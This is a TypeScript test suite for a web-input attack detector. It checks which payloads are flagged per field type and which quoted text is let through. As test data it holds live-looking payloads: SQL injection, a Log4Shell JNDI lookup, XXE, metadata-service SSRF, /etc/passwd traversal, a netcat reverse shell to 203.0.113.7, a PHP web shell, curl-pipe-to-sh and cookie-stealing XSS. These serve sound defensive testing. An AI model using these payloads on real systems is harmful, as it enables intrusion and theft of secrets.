import { createFieldRules } from '../config/field-rules.ts';
import { detectors } from '../detectors/index.ts';
import type { Input, InputSource } from '../input.ts';
import { type InspectConfig, inspectValue } from './inspect-now.ts';

/** A configuration with every detector on, under which `q` and `json:/doc` hold `kind`. */
function config(kind: string | null): InspectConfig {
  return {
    modes: Object.fromEntries(detectors.map(({ id }) => [id, 'block'])) as InspectConfig['modes'],
    parameters: { DECODE_B64: true, MAX_DECODE_ROUNDS: 3 } as InspectConfig['parameters'],
    fields: createFieldRules(kind === null ? {} : { q: kind, 'json:/doc': kind, '*': kind }).rules,
  };
}

function checksOf(value: string, kind: string | null, place: Partial<Input> = {}): readonly string[] {
  const input: Input = { source: 'query-value', name: 'q', value, trail: [], ...place };
  return inspectValue(input, config(kind)).map(({ check }) => check);
}

const quoting: readonly string[] = [
  "SELECT name FROM users WHERE id = '1' UNION SELECT password FROM admins --",
  'cd /srv/app && curl -s https://example.com/install.sh | sh; cat /etc/passwd',
  'To list them run $(ls -la /tmp); rm -rf /tmp/x afterwards.',
  '{{ 7*7 }} gives 49 and {{ config.items() }} the settings',
  "const { execSync } = require('child_process'); execSync('id');",
  '<?php system($_GET["c"]); ?>',
  'The filter (&(uid=*)(objectClass=*)) lists everyone: )(uid=*))(|(uid=*',
  "db.users.find({ $where: 'this.role == 1' })",
  'See ../../../../etc/passwd in the log',
  'Read http://169.254.169.254/latest/meta-data/ with curl',
  'http://localhost:3000/health',
  'obj.__proto__.polluted = true',
];

it('knows what would be found otherwise', () => {
  expect(quoting.filter((value) => checksOf(value, null).length > 0).length).toBeGreaterThan(7);
});

describe.each(['code', 'rich-text'])('a field that holds %s', (kind) => {
  it.each(quoting)('takes text that quotes: %s', (value) => {
    expect(checksOf(value, kind)).toEqual([]);
  });

  it.each([
    ['a lookup', 'see ${jndi:ldap://203.0.113.9/a}', 'jndi'],
    ['a hidden lookup', '${${lower:j}ndi:rmi://203.0.113.9/a}', 'jndi'],
    ['an entity of a file', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>', 'xxe'],
    ['an address of the metadata service alone', 'http://169.254.169.254/latest/meta-data/', 'ssrf'],
    ['an address of an old protocol alone', 'gopher://203.0.113.7:6379/_INFO', 'ssrf'],
    ['a path of the system alone', '../../../../../etc/passwd', 'traversal'],
    ['the same, escaped', '..%2f..%2f..%2f..%2fetc%2fpasswd', 'traversal'],
    ['a left literal', "' or 1=1 -- ", 'sqli'],
    ['a left literal behind a word', "admin' UNION SELECT secret FROM keys -- ", 'sqli'],
    ['a left literal, escaped', '%27%20or%201%3D1--', 'sqli'],
    ['a second command', '; cat /etc/passwd', 'command'],
    ['a piped command', '| nc 203.0.113.7 4444 -e /bin/sh', 'command'],
  ])('finds %s', (_what, value, check) => {
    expect(checksOf(value, kind)).toEqual([check]);
  });

  it.each(['__proto__', 'constructor.prototype'])('finds the key %s of a JSON text', (key) => {
    expect(checksOf(key, kind, { name: 'q/__proto__', trail: ['json'] })).toEqual(['prototype-pollution']);
  });

  it('covers what stands in a JSON text of the field', () => {
    const value = 'npm ci && cat /etc/passwd';
    expect(checksOf(value, kind, { name: 'q/scripts/build', trail: ['json'] })).toEqual([]);
    expect(checksOf(value, kind, { source: 'json-value', name: '/doc/a/b', trail: ['json'] })).toEqual([]);
    expect(checksOf('$where', kind, { source: 'json-key', name: '/doc/$where', trail: ['json'] })).toEqual([]);
    expect(checksOf('/etc/shadow', kind, { name: 'q/path', trail: ['json'] })).toEqual([]);
  });

  it.each<Partial<Input>>([
    { name: 'p' },
    { name: 'p/q', trail: ['json'] },
    { source: 'header-value' },
    { source: 'query-name' },
    { source: 'json-value', name: '/doc/a' },
    { source: 'json-key', name: '/doc' },
    { source: 'text', name: '' },
  ])('leaves others alone: %j', (place) => {
    expect(checksOf('x; cat /etc/passwd', kind, place)).toEqual(['command']);
  });
});

describe('a field that holds code', () => {
  it.each([
    '<script>document.title = location.hash</script>',
    '<button onclick="save()">Save</button>',
    "javascript:(function(){alert('x')})()",
  ])('takes %s', (value) => {
    expect(checksOf(value, 'code')).toEqual([]);
  });

  it.each(['"><script>alert(1)</script>', "';alert(document.cookie)//"])('finds %s', (value) => {
    expect(checksOf(value, 'code')).toEqual(['xss']);
  });
});

describe('a field that holds rich text', () => {
  it('takes script that is written as text', () => {
    expect(checksOf('<p>Use &lt;script&gt;alert(1)&lt;/script&gt; with care</p>', 'rich-text')).toEqual([]);
  });

  it.each([
    '<p>Hi</p><script src=//203.0.113.9/x></script>',
    '%3Cimg src=x onerror=alert(1)%3E',
    '<a href="java&#115;cript:alert(1)">x</a>',
  ])('finds %s', (value) => {
    expect(checksOf(value, 'rich-text')).toEqual(['xss']);
  });
});

it.each(['text', 'slug'])('kind %s changes nothing', (kind) => {
  expect(checksOf('x; cat /etc/passwd', kind)).toEqual(['command']);
});

it.each<[InputSource, string]>([
  ['form-value', 'q'],
  ['multipart-value', 'q'],
  ['path-parameter', 'q'],
])('a bare name declares %s too', (source, name) => {
  expect(checksOf('x; cat /etc/passwd', 'code', { source, name })).toEqual([]);
});
